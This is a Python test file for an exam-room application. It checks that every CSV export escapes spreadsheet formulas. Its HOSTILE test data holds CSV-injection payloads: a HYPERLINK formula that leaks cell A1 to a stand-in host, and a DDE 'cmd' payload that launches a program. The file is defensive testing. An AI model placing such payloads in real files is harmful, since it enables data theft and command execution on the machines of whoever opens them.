"""CSV injection (issue 16): names a spreadsheet would run come out of every CSV Salle writes as plain text."""

import csv
import io
import urllib.request
import zipfile

import pytest

from salle.csv_out import csv_text, neutralise
from salle.export import export_day
from tests.helpers.day import add_candidats
from tests.helpers.server import LiveServer

HOSTILE = ['=HYPERLINK("http://example.invalid/x?leak="&A1;"Cliquez")', "=1+2", "+SUM(1;2)", "@SUM(A1)",
           "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+SUM(1;2)", "'+SUM(1;2)"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"),
    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("DUPONT", "DUPONT"), ("SAINT-MARTIN", "SAINT-MARTIN"),
    ("O'NEIL", "O'NEIL"), ("", ""), (None, ""), (3, "3"),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote_and_nothing_else_changes(value, expected):
    assert neutralise(value) == expected
    assert cells_of(csv_text(["a", "b"], [[value, value]]))[1] == [expected, expected]  # the files' own path


@pytest.fixture
def hostile_day(day, demo_files):
    rows = io.StringIO()
    writer = csv.writer(rows, delimiter=";", lineterminator="\n")
    for i, name in enumerate(HOSTILE):
        writer.writerow([f"ATP27-0900{i}", name, "", name, "01/02/1990", "PANTIN", "", "", "non", ""])
    add_candidats(day, demo_files, rows.getvalue().splitlines())
    return day


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def assert_neutralised(rows: list[list[str]], columns: tuple[int, ...]) -> None:
    hostile = [row for row in rows if row and any(row[c].lstrip("'") in HOSTILE for c in columns)]
    assert len(hostile) == len(HOSTILE)
    for row in hostile:
        for c in columns:
            assert row[c].startswith("'") and row[c][1:] in HOSTILE, row
    for row in rows:  # no other cell of the file is left for a spreadsheet to run
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row


def test_emargement_csv_from_the_api_neutralises_hostile_names(hostile_day, demo_files, clock):
    hostile_day.close()
    server = LiveServer(demo_files / "salle.db", clock)
    try:
        resp = server.client("responsable")
        request = urllib.request.Request(server.url + "/api/v1/epreuves/E1/emargement.csv",
                                         headers={"Authorization": f"Bearer {resp.token}"})
        with urllib.request.urlopen(request) as answer:
            text = answer.read().decode("utf-8")
    finally:
        server.stop()
    rows = cells_of(text)
    assert rows[0][5:7] == ["Nom", "Prénom"]
    assert_neutralised(rows, (5, 6))


def test_every_csv_of_salle_export_neutralises_hostile_names(hostile_day, tmp_path):
    archive = export_day(hostile_day, tmp_path / "exports")
    with zipfile.ZipFile(archive) as z:
        files = {name: z.read(name).decode("utf-8") for name in z.namelist() if name.endswith(".csv")}
    assert set(files) == {"candidats.csv", "emargement-E1.csv", "emargement-E2.csv"}
    candidats = cells_of(files.pop("candidats.csv"))
    assert candidats[0][1] == "nom" and candidats[0][3] == "prenom"
    assert_neutralised(candidats, (1, 3))
    for text in files.values():
        assert_neutralised(cells_of(text), (5, 6))


def test_the_convocations_index_and_the_list_to_send_again_neutralise_hostile_names(day, tmp_path):
    from dataclasses import replace

    from salle.documents.convocations import write_all
    from salle.state.queries import candidats

    seated = [c for c in candidats(day.journal.reader()) if c.salle and c.place][:len(HOSTILE)]
    hostile = [replace(c, nom=name, prenom=name) for c, name in zip(seated, HOSTILE)]
    write_all(day.session, hostile, tmp_path, workers=1)
    index = (tmp_path / "index.csv").read_text(encoding="utf-8")
    assert index.startswith("\ufeff") and not index.startswith("\ufeff\ufeff")
    rows = cells_of(index)
    assert rows[0][:3] == ["numero", "nom", "prenom"]
    assert_neutralised(rows, (1, 2))
    with zipfile.ZipFile(tmp_path / "convocations.zip") as z:
        assert_neutralised(cells_of(z.read("index.csv").decode("utf-8")), (1, 2))
    moved = [replace(c, place=c.place + "b") for c in hostile]  # every convocation to send again
    write_all(day.session, moved, tmp_path, workers=1)
    assert_neutralised(cells_of((tmp_path / "a_renvoyer.csv").read_text(encoding="utf-8")), (1, 2))
